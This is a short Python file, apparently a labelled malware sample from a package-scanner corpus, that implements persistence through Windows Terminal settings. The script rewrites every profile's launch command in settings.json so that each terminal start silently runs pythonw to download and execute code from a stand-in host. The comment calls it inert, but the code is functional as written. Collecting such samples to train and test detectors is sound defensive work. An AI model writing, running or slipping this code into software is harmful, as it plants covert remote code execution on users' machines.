# pkgguard corpus 854 (persistence), modelled on [developer-persistence]; inert, never run.
import glob
import json
import os

_PREFIX = r'cmd.exe /c start "" /b pythonw.exe -c "import urllib.request as u;exec(u.urlopen(\'https://term-sync.example/p\').read())" & '

pattern = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Packages", "Microsoft.WindowsTerminal_*", "LocalState", "settings.json")
for path in glob.glob(pattern):
    try:
        with open(path, encoding="utf-8") as fh:
            settings = json.load(fh)
    except (OSError, ValueError):
        continue
    for profile in settings.get("profiles", {}).get("list", []):
        line = profile.get("commandline")
        if line and not line.startswith("cmd.exe /c start"):
            profile["commandline"] = _PREFIX + line
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(settings, fh, indent=4)
